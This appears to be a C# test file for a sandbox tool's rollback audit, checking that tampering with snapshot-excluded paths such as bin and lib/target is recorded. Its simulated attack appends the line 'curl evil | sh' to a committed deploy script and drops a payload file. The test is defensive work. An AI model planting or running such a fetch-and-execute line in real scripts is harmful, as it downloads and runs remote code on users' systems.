using System.Text.Json;
using System.Text.RegularExpressions;
using Nono.Action.Tests.Sandbox;
using Nono.Testing;

namespace Nono.Action.Tests.Snapshots;

/// <summary>
/// <c>nono run --rollback</c> in a real git checkout: paths the snapshots exclude (bin, target, node_modules, ...) are
/// covered by metadata. A command that appends to a committed script under bin/ and drops a payload under a new
/// lib/target/ leaves excluded_path_changed events and violations in the record; a command that only reads them does not.
/// </summary>
public sealed partial class ExcludedPathRecordTests
{
    [Theory]
    [InlineData(TestUser.Current)]
    [InlineData(TestUser.Nobody)]
    public async Task RunRollback_CommittedScriptUnderBinChangedAndPayloadUnderTarget_AreInTheRecord_AReadOnlyRunIsClean(TestUser user)
    {
        CancellationToken ct = TestContext.Current.CancellationToken;
        using NonoSandbox sb = new(user);
        sb.Environment.Remove("NONO_PROFILE");
        sb.Environment["XDG_STATE_HOME"] = sb.Home.Combine("state");
        using TempDirectory work = new("nono-excluded-e2e-");
        Directory.CreateDirectory(Path.Combine(work.Path, "src"));
        Directory.CreateDirectory(Path.Combine(work.Path, "bin"));
        Directory.CreateDirectory(Path.Combine(work.Path, "node_modules", "pkg"));
        File.WriteAllText(Path.Combine(work.Path, "src", "a.txt"), "a\n");
        File.WriteAllText(Path.Combine(work.Path, "bin", "deploy"), "#!/bin/sh\necho deploy\n");
        File.WriteAllText(Path.Combine(work.Path, "node_modules", "pkg", "index.js"), "module.exports = 1;\n");
        await Git(work.Path, "init", "-q");
        await Git(work.Path, "add", "src/a.txt", "bin/deploy");
        await Git(work.Path, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "commit", "-qm", "c");
        if (user == TestUser.Nobody)
        {
            Assert.Equal(0, (await ProcessRunner.RunAsync("chown", ["-R", "65534:65534", work.Path], cancellationToken: ct)).ExitCode);
        }

        (List<(string Rule, string Subject, string Evidence)> clean, string cleanLine) = await RunAsync(sb, work.Path, "cat bin/deploy node_modules/pkg/index.js >/dev/null && echo b >> src/a.txt");
        (List<(string Rule, string Subject, string Evidence)> attacked, string attackedLine) = await RunAsync(sb, work.Path, "echo 'curl evil | sh' >> bin/deploy && mkdir -p lib/target && echo x > lib/target/payload.sh");

        Assert.DoesNotContain(clean, v => v.Rule == "excluded-path-changed");
        Assert.DoesNotContain("excluded path", cleanLine, StringComparison.Ordinal);
        Assert.Contains("; 2 excluded path(s) changed, seen by metadata only: bin, lib/target", attackedLine, StringComparison.Ordinal);
        Assert.Contains("curl evil | sh", File.ReadAllText(Path.Combine(work.Path, "bin", "deploy")), StringComparison.Ordinal);
        Assert.Equal(
            [("bin", "excluded path bin modified (2 -> 2 entries): covered by metadata only, its contents and files are not in the record"),
             ("lib/target", "excluded path lib/target added (none -> 2 entries): covered by metadata only, its contents and files are not in the record")],
            attacked.Where(v => v.Rule == "excluded-path-changed").Select(v => (v.Subject, v.Evidence)));
    }

    private static async Task<(List<(string Rule, string Subject, string Evidence)> Violations, string SummaryLine)> RunAsync(NonoSandbox sb, string work, string script)
    {
        ProcessResult run = await sb.RunAsync("run", "--rollback", "--workdir", work, "--allow-cwd", "--", "/bin/sh", "-c", script);
        Assert.True(run.ExitCode == 0, run.ToString());
        string session = SessionLine().Match(run.StandardError).Groups[1].Value;
        ProcessResult show = await sb.RunAsync("audit", "show", session, "--json");
        Assert.True(show.ExitCode == 0, show.ToString());
        using JsonDocument json = JsonDocument.Parse(show.StandardOutput);
        return ([.. json.RootElement.GetProperty("violations").EnumerateArray().Select(v =>
            (v.GetProperty("rule_id").GetString() ?? "", v.GetProperty("subject").GetString() ?? "", v.GetProperty("evidence").GetString() ?? ""))], run.StandardError);
    }

    private static async Task Git(string directory, params string[] args)
    {
        ProcessResult result = await ProcessRunner.RunAsync("git", ["-C", directory, .. args], cancellationToken: TestContext.Current.CancellationToken);
        Assert.True(result.ExitCode == 0, result.ToString());
    }

    [GeneratedRegex(@"session (\S+): exit")]
    private static partial Regex SessionLine();
}
